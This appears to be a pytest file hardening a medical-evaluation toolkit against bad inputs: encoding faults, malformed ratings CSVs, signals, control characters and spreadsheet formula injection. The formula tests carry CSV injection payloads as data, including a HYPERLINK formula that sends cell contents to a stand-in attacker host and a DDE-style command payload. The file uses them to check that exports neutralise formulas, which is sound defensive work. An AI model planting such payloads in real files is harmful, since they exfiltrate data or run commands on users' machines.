"""Hardening, third round (issue #49): what an attack and fault campaign broke, each reproduced
against the real code paths, with the stub server standing in for the model (the boundary we do
not own).

A reply no UTF-8 can hold (a lone surrogate), a ratings file whose unclosed quote swallows rows,
spreadsheet formulas in the CSVs the toolkit writes, a signal in the results phase, an empty
bundles import, control characters in a model label; and tests that could not fail at what they
claimed: resume past one chunk of keys, the verdict reader's copy-of-the-answer rule, a JSON-lines
row that is not an object."""

from __future__ import annotations

import sqlite3
from pathlib import Path

from typer.testing import CliRunner

from conftest import oracle_policy
from medresilience.cli import app
from medresilience.store import Store
from medresilience.testing.stub import Faults, StubServer

runner = CliRunner()


def _lines(result) -> list[str]:
    return [ln for ln in result.output.splitlines() if ln.strip()]


def _one_error_line(result) -> str:
    assert result.exit_code != 0, result.output
    lines = _lines(result)
    assert len(lines) == 1, result.output
    return lines[0]


def _eval(suite_dir: Path, out: Path, url: str, *extra: str) -> list[str]:
    return [
        "eval",
        "--suite",
        str(suite_dir),
        "--out",
        str(out),
        "-O",
        "type1=all",
        "--model",
        f"openai:stub-model,base_url={url},concurrency=2,max_retries=1",
        *extra,
    ]


# =========================================================================== 1. a reply no UTF-8 can hold


def test_a_reply_with_a_lone_surrogate_is_stored_and_never_sent_again(tmp_path, tiny_suite):
    """Every reply ends in a lone UTF-16 surrogate (valid JSON: `\\ud800`): the run finishes with
    every reply stored (the surrogate replaced, the answer still read), and a rerun sends nothing."""
    d = tmp_path / "suite"
    tiny_suite.save(d)
    out = tmp_path / "run"
    with StubServer(policy=oracle_policy, faults=Faults(rate_surrogate=1.0)) as srv:
        r = runner.invoke(app, _eval(d, out, srv.base_url))
        assert r.exit_code == 0, r.output
        first = srv.stats.total
        again = runner.invoke(app, _eval(d, out, srv.base_url))
        assert again.exit_code == 0, again.output
        assert srv.stats.total == first, "a stored reply was sent again"
    assert first == 20  # 4 items x (clean + 3 Type 1 + Type 2), one call each
    con = sqlite3.connect(out / "store.sqlite")
    try:
        texts = [t for (t,) in con.execute("SELECT text FROM calls WHERE status = 'ok'")]
    finally:
        con.close()
    assert len(texts) == 20
    assert all(t.endswith(" \ufffd") for t in texts), texts[:3]  # the surrogate replaced by U+FFFD
    with Store(out / "store.sqlite") as st:
        assert st.count("scores", "WHERE status = 'valid'") == 20  # the answer before it is still read


def test_the_store_holds_any_text_it_is_given(tmp_path):
    """The store's own guard: a text no UTF-8 can hold (from any source, not only a reply) is stored
    with U+FFFD in place of the surrogate, and the batch's other rows with it."""
    from medresilience.store import CallRow, ScoreRow

    bad = "Answer: A \ud800"
    with Store(tmp_path / "store.sqlite") as st:
        st.write_results(
            [
                CallRow("k1", "m", "ok", text=bad, tool_calls=[{"function": {"arguments": bad}}]),
                CallRow("k2", "m", "error", error=bad),
                CallRow("k3", "m", "ok", text="fine"),
            ],
            [ScoreRow("k1", "letter", bad, "valid")],
        )
        assert st.call("k1")["text"] == st.call("k2")["error"] == st.score("k1", "letter")["label"] == "Answer: A \ufffd"
        assert "\ufffd" in st.call("k1")["tool_calls"] and st.call("k3")["text"] == "fine"


# =========================================================================== 2. an unclosed quote in a ratings file

RATINGS_HEADER = "rater,unit,item,dimension,value\n"


def test_an_unclosed_quote_swallowing_ratings_is_refused_with_its_line(tmp_path):
    """The comment on line 3 opens a quote it never closes: the four rows after it would be read as
    the comment's text (1 rating imported, exit 0); they are rows of the header's shape, so the
    file is refused naming line 3, and no review is written."""
    f = tmp_path / "ratings.csv"
    f.write_text(
        RATINGS_HEADER + "ann,u1,q1,false_presupposition,yes\n"
        'ann,u1,q1,comment,"the premise is wrong\n'
        "ann,u2,q2,false_presupposition,no\n"
        "bob,u1,q1,false_presupposition,yes\n"
        "bob,u2,q2,false_presupposition,no\n"
        "cat,u2,q2,false_presupposition,no\n",
        encoding="utf-8",
    )
    line = _one_error_line(runner.invoke(app, ["review", "import", str(f), "--rubric", "premise", "--out", str(tmp_path / "review")]))
    assert f"{f}:3" in line and "unclosed quote" in line and "line 4" in line, line
    assert not (tmp_path / "review").exists()


def test_a_comment_spanning_lines_imports_and_the_counts_are_told(tmp_path):
    """A quoted comment with line breaks whose lines are not shaped like rows is kept whole; the
    import says how many rows it read against the file's lines."""
    from medresilience.review.db import ReviewDB

    f = tmp_path / "ratings.csv"
    f.write_text(
        RATINGS_HEADER + 'ann,u1,q1,false_presupposition,yes\nann,u1,q1,comment,"first line, then\nsecond line\n\nlast"\nann,u2,q2,false_presupposition,no\n',
        encoding="utf-8",
    )
    r = runner.invoke(app, ["review", "import", str(f), "--rubric", "premise", "--out", str(tmp_path / "review")])
    assert r.exit_code == 0, r.output
    assert "2 ratings (0 skipped) of 2 units by 1 raters" in r.output and "from 3 rows read in 7 lines (with the header)" in r.output, r.output
    with ReviewDB(tmp_path / "review") as db:
        assert [x["comment"] for x in db.ratings() if x["unit_id"] == "u1"] == ["first line, then\nsecond line\n\nlast"]


# =========================================================================== 3. spreadsheet formulas in CSV output

FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"open")'


def _cells(path: Path) -> list[list[str]]:
    import csv

    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.reader(fh))


def test_the_csv_rule_quotes_formulas_leaves_numbers_and_undoes_exactly():
    from medresilience.fileio import csv_cell, csv_text

    for typed, written in [
        ("=cmd", "'=cmd"),
        ("+1+2", "'+1+2"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("'=x", "''=x"),  # a quote already there gets one more, so reading back is exact
        ("-0.5", "-0.5"),  # a plain number, even as text, stays as it is
        ("+3", "+3"),
        ("1e-3", "1e-3"),
        ("plain", "plain"),
        ("'quoted", "'quoted"),
        ("", ""),
    ]:
        assert csv_cell(typed) == written, typed
        assert csv_text(written) == typed, written
    assert csv_cell(-0.5) == -0.5 and csv_cell(None) is None


def _review_with_formulas(tmp_path: Path) -> Path:
    """A review whose comments, unit ids and strata hold what a spreadsheet would run."""
    import csv

    from medresilience.review.exchange import import_ratings

    src = tmp_path / "typed.csv"
    with open(src, "w", newline="", encoding="utf-8") as fh:
        w = csv.writer(fh)
        w.writerow(["rater", "unit", "item", "dimension", "value", "stratum_model"])
        w.writerow(["ann", "@u1", "q1", "false_presupposition", "yes", "=cmd"])
        w.writerow(["ann", "@u1", "q1", "comment", FORMULA, "=cmd"])
        w.writerow(["ann", "u2", "+q2", "false_presupposition", "no", "-0.5"])
        w.writerow(["ann", "u2", "+q2", "comment", "''=already quoted", "-0.5"])  # read by the rule: '=already quoted
        w.writerow(["bob", "u2", "+q2", "comment", "-0.5", "-0.5"])
    import_ratings(src, "premise", tmp_path / "review")
    return tmp_path / "review"


def test_review_export_neutralises_formulas_and_its_import_reads_them_back(tmp_path):
    from medresilience.review.db import ReviewDB

    review = _review_with_formulas(tmp_path)
    out = tmp_path / "export.csv"
    r = runner.invoke(app, ["review", "export", str(review), "--out", str(out)])
    assert r.exit_code == 0, r.output
    rows = _cells(out)
    assert ["ann", "'@u1", "q1", "comment", "'" + FORMULA, "'=cmd"] in rows
    assert ["ann", "u2", "'+q2", "comment", "''=already quoted", "-0.5"] in rows
    assert ["bob", "u2", "'+q2", "comment", "-0.5", "-0.5"] in rows  # a number stays a number
    assert not [c for row in rows for c in row if c[:1] in ("=", "+", "@")], rows
    # round trip: the export imported is the review that was exported
    r = runner.invoke(app, ["review", "import", str(out), "--rubric", "premise", "--out", str(tmp_path / "again")])
    assert r.exit_code == 0, r.output
    with ReviewDB(review) as a, ReviewDB(tmp_path / "again") as b:
        first = sorted((x["reviewer"], x["unit_id"], x["comment"], sorted(x["values"].items())) for x in a.ratings())
        second = sorted((x["reviewer"], x["unit_id"], x["comment"], sorted(x["values"].items())) for x in b.ratings())
        assert first == second
        assert {u.unit_id: (u.item_id, u.strata) for u in a.units().values()} == {u.unit_id: (u.item_id, u.strata) for u in b.units().values()}
        assert {FORMULA, "'=already quoted", "-0.5"} <= {x["comment"] for x in b.ratings()}
    runner.invoke(app, ["review", "export", str(tmp_path / "again"), "--out", str(tmp_path / "export2.csv")])
    assert (tmp_path / "export2.csv").read_bytes() == out.read_bytes()


def test_review_stats_ratings_csv_neutralises_formulas(tmp_path):
    review = _review_with_formulas(tmp_path)
    r = runner.invoke(app, ["review", "stats", str(review), "--out", str(tmp_path / "stats"), "--resamples", "50"])
    assert r.exit_code == 0, r.output
    rows = _cells(tmp_path / "stats" / "ratings.csv")
    header, body = rows[0], rows[1:]
    comments = [row[header.index("comment")] for row in body]
    assert "'" + FORMULA in comments and "''=already quoted" in comments and "-0.5" in comments
    assert "'=cmd" in [row[header.index("stratum_model")] for row in body]
    assert not [c for row in rows for c in row if c[:1] in ("=", "+", "@")], rows


def test_a_model_label_formula_is_neutralised_in_the_reports_usage_csv(tmp_path, tiny_suite):
    d = tmp_path / "suite"
    tiny_suite.save(d)
    out = tmp_path / "run"
    with StubServer(policy=oracle_policy) as srv:
        r = runner.invoke(
            app, ["eval", "--suite", str(d), "--out", str(out), "-O", "type1=all", "--model", f"openai:stub-model,base_url={srv.base_url},label==cmd"]
        )
        assert r.exit_code == 0, r.output
    r = runner.invoke(app, ["report", str(out)])
    assert r.exit_code == 0, r.output
    tables = sorted((out / "report" / "tables").glob("*.csv"))
    assert (out / "report" / "tables" / "usage.csv") in tables
    usage = _cells(out / "report" / "tables" / "usage.csv")
    assert "'=cmd" in [c for row in usage for c in row]
    for t in tables:  # no table of the report starts a cell with a formula
        assert not [c for row in _cells(t) for c in row if c[:1] in ("=", "+", "@")], t


def test_every_csv_writer_goes_through_the_one_rule():
    """No module but fileio.py writes CSV itself (pandas' to_csv, the csv module's writers): every
    other one calls write_csv / write_csv_frame, which apply the rule. Found by reading the source,
    so a new writer that bypasses it fails here."""
    import ast

    from conftest import ROOT

    pkg = ROOT / "src" / "medresilience"
    direct: list[str] = []
    through: set[str] = set()
    for path in sorted(pkg.rglob("*.py")):
        rel = path.relative_to(pkg).as_posix()
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            name = None
            if isinstance(node, ast.Attribute):
                name = node.attr
            elif isinstance(node, ast.Name):
                name = node.id
            elif isinstance(node, ast.ImportFrom) and node.module == "csv":
                name = next((a.name for a in node.names if a.name in ("writer", "DictWriter")), None)
            if name in ("to_csv", "DictWriter") or (name == "writer" and isinstance(node, ast.Attribute) and getattr(node.value, "id", "") == "csv"):
                direct.append(f"{rel}:{node.lineno}")
            if name in ("write_csv", "write_csv_frame"):
                through.add(rel)
            if isinstance(node, ast.ImportFrom) and node.module == "csv" and name:
                direct.append(f"{rel}:{node.lineno}")
    assert {d.split(":")[0] for d in direct} == {"fileio.py"}, direct
    assert len(direct) == 2  # csv.writer in write_csv, to_csv in write_csv_frame
    # the writers of the toolkit's CSV files, each through the rule
    assert {"review/exchange.py", "review/stats.py", "review/picks.py", "review/parts.py", "review/harm.py", "report/tables.py"} <= through


# =========================================================================== 13. resume past one chunk of keys


def test_a_rerun_over_more_finished_calls_than_one_query_chunk_sends_none_again(tmp_path):
    """1,901 finished calls (more than two of the store's 900-key query chunks, the last one
    partial): a rerun of the same requests makes no call, and the store's readers by key see every
    one of them (a chunk that dropped or skipped a key would re-send it)."""
    import asyncio

    from medresilience.calls import CallRequest, run_calls
    from medresilience.models.spec import parse_model_spec

    params = {"temperature": 0.0, "max_tokens": 8}
    n = 1901
    with StubServer(policy=oracle_policy) as srv, Store(tmp_path / "s.sqlite") as st:
        spec = parse_model_spec(f"openai:stub-model,base_url={srv.base_url},concurrency=64,max_retries=0")
        reqs = [CallRequest(spec.label, f"k{i:05d}", [{"role": "user", "content": f"Question {i}?\nA. a\nB. b"}], params) for i in range(n)]
        first = asyncio.run(run_calls(reqs, [spec], st))
        assert first.called == srv.stats.total == n
        again = asyncio.run(run_calls(reqs, [spec], st))
        assert srv.stats.total == n and again.cached == n and again.called == 0
        keys = [r.key for r in reqs]
        assert st.finished_keys([*keys, "never-planned"]) == set(keys)
        assert set(st.replies(keys)) == set(keys)


# =========================================================================== 6. control characters in a model label


def test_a_model_label_with_a_control_character_is_refused(tmp_path, tiny_suite):
    import pytest

    from medresilience.errors import ConfigError
    from medresilience.models.spec import parse_model_spec

    for bad in ("a\nb", "a\rb", "tab\there", "nul\x00", "esc\x1b[31m", "line\u2028sep"):
        with pytest.raises(ConfigError, match=r"label.*control character"):
            parse_model_spec(f"embedded,label={bad}")
        with pytest.raises(ConfigError, match=r"label.*control character"):
            parse_model_spec(f"openai:m,base_url=http://127.0.0.1:9/v1,label={bad}")
    with pytest.raises(ConfigError, match=r"model.*control character"):
        parse_model_spec("openai:m\nx,base_url=http://127.0.0.1:9/v1")  # the label it would default to
    assert parse_model_spec("embedded,label=qwen 1.5B (ünïcode)").label == "qwen 1.5B (ünïcode)"
    d = tmp_path / "suite"
    tiny_suite.save(d)
    with StubServer(policy=oracle_policy) as srv:
        line = _one_error_line(
            runner.invoke(app, ["eval", "--suite", str(d), "--out", str(tmp_path / "run"), "--model", f"openai:stub-model,base_url={srv.base_url},label=a\nb"])
        )
        assert srv.stats.total == 0
    assert "label" in line and "control character" in line and "U+000A" in line, line
    assert not (tmp_path / "run").exists()


# =========================================================================== 5. an empty bundles import


def test_importing_an_empty_release_is_refused_and_writes_nothing(tmp_path):
    for name, text in (("empty.jsonl", ""), ("blank.jsonl", "\n  \n")):
        f = tmp_path / name
        f.write_text(text, encoding="utf-8")
        out = tmp_path / f"suite-{name}"
        line = _one_error_line(runner.invoke(app, ["import", str(f), "--format", "bundles", "--out", str(out)]))
        assert str(f) in line and "no item" in line, line
        assert not out.exists()


# =========================================================================== 4. a signal in the results phase


def test_the_results_worker_is_silent_when_the_command_leaves_mid_request(tmp_path, tiny_suite, capfd):
    """A signal in the results phase ends the command while its worker computes: the worker's
    answer then meets a closed pipe. It ends without a word (the command prints the one
    "interrupted" line), for an answer and for an error alike; SIGINT (sent to the whole
    foreground group by Ctrl-C) is the command's to handle, not the worker's."""
    import signal

    from medresilience import results_worker
    from medresilience.results_worker import ResultsWorker

    if not results_worker.enabled():
        import pytest

        pytest.skip("the results worker runs where processes fork (Linux)")
    d = tmp_path / "suite"
    tiny_suite.save(d)
    out = tmp_path / "run"
    with StubServer(policy=oracle_policy) as srv:
        r = runner.invoke(app, _eval(d, out, srv.base_url))
        assert r.exit_code == 0, r.output
    capfd.readouterr()
    for request in (("report", str(out), {}), ("no such request",)):
        w = ResultsWorker(tiny_suite).__enter__()
        proc = w._proc
        w._conn.send(request)
        w._conn.close()  # the command is gone before the answer (its end of the pipe closed)
        w._conn = None
        proc.join(timeout=120)
        assert proc.exitcode == 0
        assert capfd.readouterr().err == "", request
    w = ResultsWorker(tiny_suite).__enter__()
    try:
        assert w._ask("no such request") is None  # one round trip: the worker is serving
        os_kill = __import__("os").kill
        os_kill(w._proc.pid, signal.SIGINT)
        w._conn.send(("no such request",))
        status, _ = w._conn.recv()  # answered (an error), not killed by the SIGINT
        assert status == "error" and w._proc.is_alive()
    finally:
        w.close()
    assert capfd.readouterr().err == ""
